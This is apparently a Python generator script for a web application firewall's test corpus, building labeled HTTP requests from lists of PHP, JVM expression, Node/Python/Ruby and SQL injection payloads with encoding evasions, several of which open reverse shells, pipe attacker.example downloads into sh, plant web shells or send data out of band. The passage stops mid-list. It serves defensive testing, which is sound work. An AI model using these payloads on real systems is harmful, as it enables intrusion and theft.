#!/usr/bin/env python3
"""Write tests/data/waf_unseen_second.jsonl: a second unseen set for the WAF (issue 17).

    python tests/data/make_waf_unseen_second.py

Written by a helper who saw neither the WAF's rules nor any corpus, from attack techniques and
their evasions, with a benign side weighted towards what WAFs wrongly block (quoted search
phrases, code snippets, rich text, GraphQL, internal-looking URLs, base64 blobs, JWTs).
Deterministic, standard library only: it writes the file, re-reads it, validates every row and
prints a summary table.

Conventions
-----------
* "payload" is the value the application sees after ONE level of transport
  decoding of the placement (URL-decoding for query/path/form/cookie, JSON
  string decoding for json/json_key, raw text for header/multipart/xml).
  So for double-URL-encoded rows the payload still contains %xx, and for
  base64 rows the payload is the base64 text.
* Rows whose wire bytes are deliberately not valid UTF-8 (%A0, %BF%27,
  overlong %C0%AE) carry a payload decoded as Latin-1.
"""

import base64
import hashlib
import hmac
import json
import os
import random
import re
import sys
import urllib.parse as up
import uuid
from collections import Counter, defaultdict
from collections.abc import Collection
from typing import Any

OUT_DIR = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(OUT_DIR, "waf_unseen_second.jsonl")
rng = random.Random(100010)


# --------------------------------------------------------------------------
# encoding helpers
# --------------------------------------------------------------------------
def q(s: str, safe: str = "") -> str:
    return up.quote(s, safe=safe)


def qb(b: bytes) -> str:
    return up.quote_from_bytes(b, safe="")


def _b(s: str | bytes) -> bytes:
    return s.encode("utf-8") if isinstance(s, str) else s


def b64(s: str | bytes) -> str:
    return base64.b64encode(_b(s)).decode()


def b64np(s: str | bytes) -> str:
    return b64(s).rstrip("=")


def b64url(s: str | bytes) -> str:
    return base64.urlsafe_b64encode(_b(s)).decode().rstrip("=")


def ent_hex(s: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in s)


def ent_dec(s: str) -> str:
    return "".join(f"&#{ord(c)};" for c in s)


COOKIE_SAFE = "".join(c for c in map(chr, range(0x21, 0x7F)) if c not in '";,\\%')


def cookie_enc(v: str) -> str:
    return q(v, safe=COOKIE_SAFE)


def dumps_u(obj: Any, esc: Collection[str]) -> str:
    """json.dumps with chosen characters inside strings written as \\uXXXX."""
    if isinstance(obj, str):
        out = ['"']
        for ch in obj:
            if ch in esc:
                out.append(f"\\u{ord(ch):04x}")
            else:
                out.append(json.dumps(ch)[1:-1])
        out.append('"')
        return "".join(out)
    if isinstance(obj, dict):
        return "{" + ", ".join(dumps_u(k, esc) + ": " + dumps_u(v, esc) for k, v in obj.items()) + "}"
    if isinstance(obj, list):
        return "[" + ", ".join(dumps_u(v, esc) for v in obj) + "]"
    return json.dumps(obj)


def rand_alnum(n: int) -> str:
    a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(rng.choice(a) for _ in range(n))


def rand_hex(n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def ruuid() -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def boundary() -> str:
    if rng.random() < 0.7:
        return "----WebKitFormBoundary" + rand_alnum(16)
    return "------------------------" + "".join(rng.choice("0123456789") for _ in range(16))


def multipart(fields: list[tuple[Any, ...]], bnd: str) -> str:
    """fields: list of (name, value, filename|None, content_type|None, extra_headers|None)"""
    out = []
    for f in fields:
        name, value, filename, ct = f[0], f[1], f[2], f[3]
        extra = f[4] if len(f) > 4 else None
        disp = f'form-data; name="{name}"'
        if filename is not None:
            disp += f'; filename="{filename}"'
        part = f"--{bnd}\r\nContent-Disposition: {disp}\r\n"
        if ct:
            part += f"Content-Type: {ct}\r\n"
        for k, v in (extra or {}).items():
            part += f"{k}: {v}\r\n"
        part += "\r\n" + value + "\r\n"
        out.append(part)
    return "".join(out) + f"--{bnd}--\r\n"


def jwt(claims: dict[str, Any], alg: str = "HS256", kid: str | None = None) -> str:
    hdr = {"alg": alg, "typ": "JWT"}
    if kid:
        hdr["kid"] = kid
    h = b64url(json.dumps(hdr, separators=(",", ":")))
    p = b64url(json.dumps(claims, separators=(",", ":")))
    if alg == "HS256":
        sig = hmac.new(b"v10-demo-key-not-secret", (h + "." + p).encode(), hashlib.sha256).digest()
    else:
        sig = bytes(rng.getrandbits(8) for _ in range(256))
    return h + "." + p + "." + b64url(sig)


def rbytes(n: int) -> bytes:
    return bytes(rng.getrandbits(8) for _ in range(n))


# --------------------------------------------------------------------------
# request construction
# --------------------------------------------------------------------------
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
        "Safari/605.1.15"
    ),
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4 Mobile/15E148 Safari/604.1"
    ),
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "ShopApp/3.2.1 (Android 14; Pixel 8)",
]

ROWS = []
IDC = Counter()


def ua() -> str:
    return UAS[len(ROWS) % len(UAS)]


def sid() -> str:
    return rand_hex(32)


def build(  # noqa: PLR0912, PLR0913, PLR0915  keyword-only options for every placement, one branch per placement
    placement: str,
    payload: str,
    *,
    param: str = "q",
    endpoint: str = "/api/data",
    header: str = "X-Custom",
    cookie: str = "pref",
    extra: dict[str, Any] | None = None,
    method: str | None = None,
    wire: str | None = None,
    nest: str | None = None,
    keyval: str = "1",
    body: str | None = None,
    ctype: str | None = None,
    filename: str | None = None,
    part_ctype: str | None = None,
    fname_payload: bool = False,
    mp_value: str = "hello",
    uesc: Collection[str] | None = None,
    hdrs: dict[str, str] | None = None,
    rawq: str | None = None,
    post_body: str | None = None,
    post_ctype: str | None = None,
    accept: str | None = None,
    part_headers: dict[str, str] | None = None,
) -> tuple[str, str, str, dict[str, str], str | None]:
    h = {"User-Agent": ua(), "Accept": accept or "application/json, text/plain, */*"}
    path, query = endpoint, ""
    extra = dict(extra or {})
    m = method
    if placement == "query":
        m = m or "GET"
        if rawq is not None:
            query = rawq
        else:
            parts = [f"{q(str(k))}={q(str(v))}" for k, v in extra.items()]
            parts.append(f"{q(param)}={wire if wire is not None else q(payload)}")
            query = "&".join(parts)
    elif placement == "path":
        m = m or "GET"
        seg = wire if wire is not None else q(payload)
        path = endpoint.rstrip("/") + "/" + seg
    elif placement in ("json", "json_key"):
        m = m or "POST"
        if body is None:
            inner = {param: payload} if placement == "json" else {payload: keyval}
            obj = dict(extra)
            if nest:
                obj[nest] = inner
            else:
                obj.update(inner)
            body = dumps_u(obj, uesc) if uesc else json.dumps(obj)
        h["Content-Type"] = ctype or "application/json"
    elif placement == "form":
        m = m or "POST"
        if body is None:
            parts = [f"{q(str(k))}={q(str(v))}" for k, v in extra.items()]
            parts.append(f"{q(param)}={wire if wire is not None else q(payload)}")
            body = "&".join(parts)
        h["Content-Type"] = ctype or "application/x-www-form-urlencoded"
    elif placement == "multipart":
        m = m or "POST"
        bnd = boundary()
        if body is None:
            fields = [(k, str(v), None, None) for k, v in extra.items()]
            if fname_payload:
                fields.append((param, mp_value, payload, part_ctype or "application/octet-stream", part_headers))
            else:
                fields.append((param, payload, filename, part_ctype, part_headers))
            body = multipart(fields, bnd)
        else:
            body = body.replace("{BND}", bnd)
        h["Content-Type"] = f"multipart/form-data; boundary={bnd}"
    elif placement == "header":
        m = m or "GET"
        h[header] = payload
    elif placement == "cookie":
        m = m or "GET"
        h["Cookie"] = f"sid={sid()}; {cookie}={cookie_enc(payload)}"
    elif placement == "xml":
        m = m or "POST"
        body = body if body is not None else payload
        h["Content-Type"] = ctype or "application/xml"
    else:
        raise ValueError(placement)
    if post_body is not None:
        body = post_body
        h["Content-Type"] = post_ctype or "text/plain"
        m = method or "POST"
    if hdrs:
        h.update(hdrs)
    return m, path, query, h, body


def emit(  # noqa: PLR0913  one argument per field of a corpus row
    label: str,
    category: str,
    placement: str,
    payload: str,
    method: str,
    path: str,
    query: str,
    headers: dict[str, str],
    body: str | None,
    hard: bool = False,
) -> None:
    short = category[len("benign_") :] if category.startswith("benign_") else category
    key = ("a" if label == "attack" else "b", short)
    IDC[key] += 1
    rid = f"v10-{key[0]}-{short}-{IDC[key]:04d}"
    ROWS.append(
        {
            "id": rid,
            "label": label,
            "category": category,
            "method": method,
            "path": path,
            "query": query,
            "headers": headers,
            "body": body,
            "placement": placement,
            "payload": payload,
            "hard": bool(hard),
            "source": "v10",
        }
    )


def E(p: str, **o: Any) -> tuple[str, dict[str, Any]]:
    return (p, o)


def H(p: str, **o: Any) -> tuple[str, dict[str, Any]]:
    o["hard"] = True
    return (p, o)


def header_ok(p: str) -> bool:
    return p == p.strip() and len(p) > 0 and all(0x20 <= ord(c) < 0x7F for c in p)


def compatible(pl: str, p: str) -> bool:
    if pl == "header":
        return header_ok(p)
    if pl == "json_key":
        return len(p) <= 400
    return True


DEFAULT_UESC = set("<>'\"()$_{};:/ =|&`.")


# Curated thinning: near-duplicate plain entries removed so the attack side
# stays close to the requested per-family sizes (kept in the source for the record).
TRIM = {
    "php_injection": [
        'passthru("cat /etc/passwd");',
        "popen('id','r');",
        "proc_open('id',array(),$pipes);",
        "array_filter(array('cat /etc/passwd'),'system');",
        "mb_ereg_replace('.*','system(\"id\")','x','e');",
        "';phpinfo();//",
    ],
    "java_injection": [
        '@java.lang.Runtime@getRuntime().exec("calc")',
        'Class.forName("java.lang.Runtime").getDeclaredMethod("exec",String.class)',
    ],
    "code_injection": [
        "res.end(require('fs').readdirSync('.').toString())",
        "module.constructor._load('child_process').spawnSync('id')",
        "subprocess.Popen('id',shell=True)",
        "Kernel.exec('/bin/sh -c id')",
        "send(:eval, \"File.read('/etc/passwd')\")",
        "\"\".class.superclass.const_get(:Kernel).public_send(:spawn,'id')",
    ],
    "sqli": [
        "1' AND SLEEP(5)#",
        "' OR 'a'='a",
        "1 AND (SELECT 1)=1",
        "1' and substr(@@version,1,1)='8",
        "'; SHUTDOWN--",
        "' OR 1=1 LIMIT 1 OFFSET 1--",
        "1 || 1=1",
        "' UNION SELECT NULL,NULL,NULL,NULL--",
        "1' AND 'a'=N'a",
        "1 AND 0x31=0x31",
    ],
    "rfi": ["http://attacker.example/s.txt#", "zip:///tmp/upload.zip#payload.php", "expect://ls -la"],
    "ssrf": ["http://[::]:80/", "http://127.000.000.001/", "http://0.0.0.0:22/"],
    "cmdi": ["|| ping -c 10 attacker.example", "& cmd /c whoami", ";tac$IFS/etc/shadow", "127.0.0.1 && uname -a"],
    "crlf": ["\r\nContent-Security-Policy: script-src *", "page\r\n\tInjected-Header: value", "foo\r\n X-Folded: yes"],
    "mail_injection": ["me@example.com\nbcc: x@example.net"],
    "ssti": [
        "{{config.items()}}",
        "{{joiner.__init__.__globals__.os.popen('id').read()}}",
        "{{namespace.__init__.__globals__.os.popen('id').read()}}",
        "{{app.request.server.all|join(',')}}",
        "{{ settings.SECRET_KEY }}",
    ],
    "ldapi": ["*)(uid=*", "admin*)((|userpassword=*)"],
    "xss": ["<marquee onstart=alert(1)>", "<x onclick=alert(1)>click me", '<base href="//attacker.example/">'],
}
DROPPED = []


def apply_trim(category: str, entries: list[Any]) -> list[Any]:
    drop = TRIM.get(category, [])
    for d in drop:
        n = sum(1 for e in entries if isinstance(e, str) and e == d)
        if n != 1:
            raise SystemExit(f"trim entry for {category} matched {n} times: {d!r}")
    DROPPED.extend((category, d) for d in drop)
    return [e for e in entries if not (isinstance(e, str) and e in drop)]


def gen(  # noqa: PLR0912  one branch per encoding and per placement of an entry
    label: str, category: str, entries: list[Any], cycle: list[str], ctx: dict[str, Any]
) -> None:
    entries = apply_trim(category, entries)
    for i, e in enumerate(entries):
        p, o = (e, {}) if isinstance(e, str) else (e[0], dict(e[1]))
        hard = o.pop("hard", False)
        enc = o.pop("enc", None)
        if enc == "b64":
            p = b64np(p)
        elif enc == "b64pad":
            p = b64(p)
        elif enc == "b64url":
            p = b64url(p)
        elif enc == "dbl":
            p = q(p)
        elif enc == "ent":
            p = ent_hex(p)
        elif enc == "entdec":
            p = ent_dec(p)
        elif enc == "uesc":
            o.setdefault("uesc", DEFAULT_UESC)
            o.setdefault("placement", "json")
        elif enc is not None:
            raise ValueError(enc)
        pl = o.pop("placement", None)
        if pl is None:
            k = i
            while not compatible(cycle[k % len(cycle)], p):
                k += 1
            pl = cycle[k % len(cycle)]

        def pick(key: str, i: int = i) -> Any:
            lst = ctx[key]
            return lst[i % len(lst)]

        kw = {}
        if pl == "query":
            kw.update(param=pick("qp"), endpoint=pick("ep"), extra=ctx.get("xq"))
        elif pl == "path":
            kw.update(endpoint=pick("pp"))
        elif pl in ("json", "json_key"):
            kw.update(param=pick("jf"), endpoint=pick("pe"), extra=ctx.get("xj"))
        elif pl in ("form", "multipart"):
            kw.update(param=pick("jf"), endpoint=pick("pe"), extra=ctx.get("xf"))
        elif pl == "header":
            kw.update(header=pick("hn"), endpoint=pick("ep"))
        elif pl == "cookie":
            kw.update(cookie=pick("ck"), endpoint=pick("ep"))
        elif pl == "xml":
            kw.update(endpoint=pick("pe"))
        kw.update(o)
        m, path, query, h, body = build(pl, p, **kw)
        emit(label, category, pl, p, m, path, query, h, body, hard)


def C(  # noqa: PLR0913  one argument per pool of names a category cycles through
    qp: list[str],
    jf: list[str],
    hn: list[str],
    ck: list[str],
    ep: list[str],
    pe: list[str],
    pp: list[str],
    xq: dict[str, Any] | None = None,
    xj: dict[str, Any] | None = None,
    xf: dict[str, Any] | None = None,
) -> dict[str, Any]:
    return {
        "qp": qp,
        "jf": jf,
        "hn": hn,
        "ck": ck,
        "ep": ep,
        "pe": pe,
        "pp": pp,
        "xq": xq or {},
        "xj": xj or {},
        "xf": xf or {},
    }


# ==========================================================================
# ATTACKS
# ==========================================================================

# ---------------- PHP code injection --------------------------------------
_php_b64_sys = b64np("system('id');")
PHP = [
    "<?php system($_GET['c']); ?>",
    "system('id');",
    'passthru("cat /etc/passwd");',
    "assert(\"system('uname -a')\");",
    "preg_replace('/.*/e','system(\"id\")','x');",
    E(
        "/^(.*)$/e",
        placement="query",
        param="pattern",
        endpoint="/tools/replace.php",
        extra={"replacement": "system('id')", "subject": "abc"},
    ),
    "echo `id`;",
    "$_GET[a]($_GET[b]);",
    "${system('id')}",
    "$f='sys'.'tem';$f('id');",
    "('sys'.'tem')('whoami');",
    "$a=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$a('id');",
    f"@eval(base64_decode('{_php_b64_sys}'));",
    "call_user_func('system','id');",
    "call_user_func_array('passthru',array('ls -la /'));",
    "array_map('system',array('id'));",
    "array_filter(array('cat /etc/passwd'),'system');",
    "create_function('','system(\"id\");');",
    "shell_exec('nc -e /bin/sh 10.0.0.5 4444');",
    'exec("curl http://attacker.example/x.sh|sh");',
    "proc_open('id',array(),$pipes);",
    "popen('id','r');",
    "file_put_contents('shell.php','<?php eval($_POST[1]);?>');",
    "<?=`$_GET[0]`?>",
    "{${phpinfo()}}",
    "\"]);system('id');//",
    "';phpinfo();//",
    'O:8:"stdClass":1:{s:3:"cmd";s:2:"id";}',
    "$x=str_rot13('flfgrz');$x('id');",
    "hex2bin('73797374656d')('id');",
    "<?php $_=$_POST;$__=$_['x'];$__($_['y']);",
    "mb_ereg_replace('.*','system(\"id\")','x','e');",
    E("<?php system($_GET['cmd']); ?>", enc="b64", placement="json", param="content"),
    E(
        "<?php passthru($_REQUEST['c']); ?>",
        placement="multipart",
        param="avatar",
        filename="avatar.php.jpg",
        part_ctype="image/jpeg",
    ),
    E("system('id');", enc="dbl", placement="query"),
    E('$_="`"^"@";$__=$_("id");', placement="form"),
    E("${@eval($_POST[x])}", enc="uesc", param="title"),
    E('a:1:{i:0;O:15:"Monolog\\Handler":1:{s:3:"cmd";s:6:"whoami";}}', placement="cookie"),
]
CTX_PHP = C(
    qp=["code", "cmd", "expr", "callback", "filter", "calc"],
    jf=["expression", "formula", "code", "template", "callback"],
    hn=["User-Agent", "X-Forwarded-For", "Referer", "X-Debug"],
    ck=["PHPSESSID_data", "prefs", "cart"],
    ep=["/index.php", "/calc.php", "/api/eval", "/admin/tools.php"],
    pe=["/api/calc", "/site/eval.php", "/admin/settings.php", "/api/v1/widgets"],
    pp=["/module/", "/page/", "/api/run/"],
    xf={"csrf": "a8f3c0e1"},
)

# ---------------- Java / JVM expression injection ---------------------------
_struts = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
    "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
    "(#p.redirectErrorStream(true)).(#process=#p.start())}"
)
_confluence = (
    '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8"))'
    '.(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}'
)
JAVA = [
    'Runtime.getRuntime().exec("id")',
    'java.lang.Runtime.getRuntime().exec(new String[]{"/bin/sh","-c","id"})',
    'new ProcessBuilder("bash","-c","curl attacker.example|sh").start()',
    'Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")',
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}",
    "${T(java.lang.System).getenv()}",
    "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}",
    E(_struts, placement="header", header="Content-Type", endpoint="/struts2-showcase/upload.action"),
    '${"".getClass().forName("java.lang.Runtime").getMethods()[6].invoke(null).exec("id")}',
    "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime')}",
    "${''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
    (
        'new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("java.lang.Runtime.getRuntime()'
        ".exec('id')\")"
    ),
    "(#context['xwork.MethodAccessor.denyMethodExecution']=false)(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))",
    E(
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
        placement="form",
        endpoint="/app/greeting",
        body=(
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern="
            + q("%{c2}i")
            + "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
            + "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
        ),
    ),
    'Class.forName("java.lang.Runtime").getDeclaredMethod("exec",String.class)',
    'T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec("id").getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())',
    E(
        'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwn")',
        placement="header",
        header="spring.cloud.function.routing-expression",
        method="POST",
        endpoint="/functionRouter",
        post_body="data",
        post_ctype="text/plain",
    ),
    'new java.util.Scanner(Runtime.getRuntime().exec("id").getInputStream()).useDelimiter("\\\\A").next()',
    '"id".execute().text',
    '@java.lang.Runtime@getRuntime().exec("calc")',
    E(_confluence, placement="path", endpoint="", wire=q(_confluence) + "/"),
    E(
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa_ORyAwAHSQAIaGFzaENvZGVJAARwb3J0",
        placement="cookie",
        cookie="rememberMe",
    ),
    'java.lang.Runtime.getRuntime().exec(new java.lang.String(java.util.Base64.getDecoder().decode("aWQ")))',
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    E("T(java.lang.Runtime).getRuntime().exec('id')", enc="b64", placement="path"),
    E("${T(java.lang.Runtime).getRuntime().exec('id')}", enc="uesc", param="expression"),
]
CTX_JAVA = C(
    qp=["expr", "filter", "redirect", "message", "name", "sort"],
    jf=["expression", "condition", "rule", "name", "query"],
    hn=["X-Expression", "User-Agent", "Referer", "X-Forwarded-Host"],
    ck=["JSESSIONID_attr", "pref", "view"],
    ep=["/app/search", "/api/rules", "/actuator/env", "/jsp/index.action"],
    pe=["/api/rules/evaluate", "/app/greeting", "/api/v1/workflow", "/portal/submit.action"],
    pp=["/app/view/", "/api/eval/", "/web/"],
)

# ---------------- Node / Python / Ruby code injection -------------------------
_py_hex = b"__import__('os').system('id')".hex()
_py_b64 = b64np("import os;os.system('id')")
CODE = [
    # Node.js
    "require('child_process').exec('id')",
    'require("child_process").execSync("cat /etc/passwd").toString()',
    "process.mainModule.require('child_process').execSync('id')",
    "global.process.mainModule.constructor._load('child_process').exec('id')",
    "Function('return process')().mainModule.require('child_process').execSync('id')",
    'new Function("return this.process")().exit()',
    "eval(\"require('child_process').exec('nc 10.0.0.5 4444 -e /bin/sh')\")",
    "this.constructor.constructor('return process')().env",
    (
        "[].constructor.constructor(\"return global.process.mainModule.require('fs').readFileSync('/etc/passwd',"
        "'utf8')\")()"
    ),
    "res.end(require('fs').readdirSync('.').toString())",
    "setTimeout(\"require('child_process').exec('id')\",0)",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){console.log(o)})}()",
    "module.constructor._load('child_process').spawnSync('id')",
    "import('child_process').then(m=>m.execSync('id'))",
    E("require('child_process').execSync('id')", enc="b64", placement="json", param="script"),
    # Python
    "__import__('os').system('id')",
    '__import__("os").popen("cat /etc/passwd").read()',
    "os.popen('id').read()",
    "subprocess.check_output(['ls','-la','/'])",
    "subprocess.Popen('id',shell=True)",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "exec(\"import socket,subprocess;s=socket.socket();s.connect(('10.0.0.5',4444))\")",
    "getattr(__import__('o'+'s'),'sys'+'tem')('id')",
    "__builtins__.__dict__['__imp'+'ort__']('os').system('id')",
    "().__class__.__bases__[0].__subclasses__()",
    "vars(__builtins__)['exec'](\"__import__('os').system('id')\")",
    f"eval(bytes.fromhex('{_py_hex}').decode())",
    f"exec(__import__('base64').b64decode('{_py_b64}=='))",
    E("__import__('os').system('id')", enc="uesc", param="formula"),
    # Ruby
    "#{`id`}",
    "%x(cat /etc/passwd)",
    'Kernel.system("id")',
    'IO.popen("id").read',
    "eval(\"system('id')\")",
    'instance_eval("`whoami`")',
    "Kernel.exec('/bin/sh -c id')",
    "Object.const_get(:Kernel).send(:system,'id')",
    'open("|id").read',
    "send(:eval, \"File.read('/etc/passwd')\")",
    "\"\".class.superclass.const_get(:Kernel).public_send(:spawn,'id')",
    E("Kernel.system('id')", enc="dbl", placement="query"),
]
CTX_CODE = C(
    qp=["expr", "calc", "formula", "filter", "callback", "code", "sort_by"],
    jf=["formula", "expression", "script", "condition", "transform", "code"],
    hn=["X-Eval", "User-Agent", "X-Transform", "Referer"],
    ck=["prefs", "state", "ui"],
    ep=["/api/calc", "/api/preview", "/render", "/report/custom"],
    pe=["/api/v1/rules", "/api/calc", "/api/notebooks/run", "/admin/hooks", "/api/reports/custom"],
    pp=["/api/eval/", "/calc/", "/render/"],
    xj={"version": 2},
)

# ---------------- SQL injection -----------------------------------------------
SQLI = [
    "1' /**/UNION/**/SELECT/**/NULL,NULL,NULL-- -",
    "1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -",
    "1/*!12345UNION SELECT*/username,password FROM users#",
    "-1' UnIoN SeLeCt null,@@version,null-- -",
    "1'\tOR\t1=1-- -",
    "1'\nOR\n'a'='a",
    "1'\x0bOR\x0b1=1#",
    "1'\x0cunion\x0cselect\x0cuser(),2#",
    E("1'\xa0or\xa0'1'='1", placement="query", param="id", endpoint="/api/products", wire=qb(b"1'\xa0or\xa0'1'='1")),
    "1'or(1)=(1)#",
    "'or(select(1)from(dual)where(1=1))#",
    "1'and(select(sleep(5)))-- -",
    "1' AND SLEEP(5)#",
    "1' AND BENCHMARK(5000000,MD5('a'))-- -",
    "1';SELECT pg_sleep(5)--",
    "1' || pg_sleep(10)--",
    "1';WAITFOR DELAY '0:0:5'--",
    "1);WAITFOR DELAY '00:00:05';--",
    "'||(SELECT password FROM users WHERE username='admin')||'",
    "' UNION SELECT CONCAT(0x3a,user(),0x3a),NULL-- -",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -",
    "' AND updatexml(null,concat(0x0a,version()),null)-- -",
    "' OR 1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
    "-1.0e0union select 1,password,3 from users-- -",
    "0e1union(select(1),(2),(3))#",
    "'; DROP TABLE users;--",
    "1; INSERT INTO admins(username,password) VALUES('x','y')--",
    "1';EXEC xp_cmdshell('whoami')--",
    "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL-- -",
    "' UNION SELECT 1,'<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'-- -",
    "' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual))--",
    "'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\a'--",
    (
        "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM "
        "information_schema.tables GROUP BY x)a)-- -"
    ),
    "' OR username=CHAR(97,100,109,105,110)-- -",
    "' OR username=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110)--",
    "' OR name=0x61646d696e#",
    E(
        "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a' THEN price ELSE name END)",
        placement="query",
        param="sort",
        endpoint="/api/products",
    ),
    E("name,(select 1 from(select sleep(3))a)", placement="query", param="order", endpoint="/reports/sales"),
    E(
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
        placement="query",
        param="limit",
        endpoint="/api/v2/orders",
    ),
    E("10 OFFSET (SELECT 1 FROM pg_sleep(5))", placement="json", param="limit"),
    "' OR JSON_EXTRACT(data,'$.role')='admin'-- -",
    "' OR data->>'role'='admin'--",
    "1' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,@@version)) USING utf8)))-- -",
    E("admin'-- -", placement="form", param="username", endpoint="/account/register"),
    E(
        "bob'); UPDATE users SET role='admin' WHERE username='bob'--",
        placement="json",
        param="displayName",
        endpoint="/api/v1/profile",
        method="PUT",
    ),
    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "1' AND (SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END)='1",
    "' AnD 1=(SeLeCt 1 FrOm PG_SLEEP(5))--",
    "x' oR 'x'LIKE'x",
    "' OR 'a'='a",
    "1)) OR ((1=1",
    "-1 UNION ALL SELECT table_name,NULL FROM information_schema.tables--",
    "1 union#foo*/*bar\nselect 1,2,3",
    "1'-IF(MID(VERSION(),1,1)=5,SLEEP(5),0)-'",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
    (
        "'||(SELECT extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
        "\"http://oob.attacker.example/\">%x;]>'),'/l') FROM dual)||'"
    ),
    "1;COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--",
    "' UNION SELECT sqlite_version(),NULL--",
    "1' AND 1=like('ABCDEFG',upper(hex(randomblob(500000000/2))))--",
    "admin')#",
    "' UNION(SELECT(username),(password)FROM(users))#",
    "1'||(select'1'from(pg_sleep(5)))||'",
    "1 AND (SELECT 1)=1",
    "1' and substr(@@version,1,1)='8",
    "'; SHUTDOWN--",
    "' OR 1=1 LIMIT 1 OFFSET 1--",
    "1' ORDER BY 10-- -",
    '" OR "1"="1" --',
    "\\' or 1=1 -- -",
    "1 || 1=1",
    E("\xbf' or 1=1 -- ", placement="query", param="name", endpoint="/search", wire=qb(b"\xbf' or 1=1 -- ")),
    "1 UNION SELECT @@hostname,user(),database()#",
    "'+(select*from(select(sleep(3)))a)+'",
    "(select(0)from(select(sleep(6)))v)/*'+(select(0)from(select(sleep(6)))v)+'\"+(select(0)from(select(sleep(6)))v)+\"*/",
    "' UNION SELECT NULL,NULL,NULL,NULL--",
    "1' AND 'a'=N'a",
    "1 AND 0x31=0x31",
    "' oR/**/1/**/LiKe/**/1#",
    "1'/**/&&/**/1=1#",
    "1%' AND 1=1 AND '%'='",
    # encoded variants
    E("' UNION SELECT username,password FROM users-- -", enc="b64", placement="query", param="filter"),
    E("1 AND SLEEP(5)", enc="b64url", placement="path"),
    E("' OR 1=1-- -", enc="b64", placement="cookie"),
    E("1' UNION SELECT NULL,version()-- -", enc="b64", placement="json", param="cursor"),
    E("' or 1=1-- -", enc="dbl", placement="query"),
    E("-1 UNION SELECT 1,2,3", enc="dbl", placement="path"),
    E("' UNION SELECT password FROM users WHERE '1'='1", enc="uesc", param="search"),
    E("admin' OR '1'='1", enc="uesc", param="username"),
    E("1;SELECT pg_sleep(5)", enc="uesc", placement="json_key"),
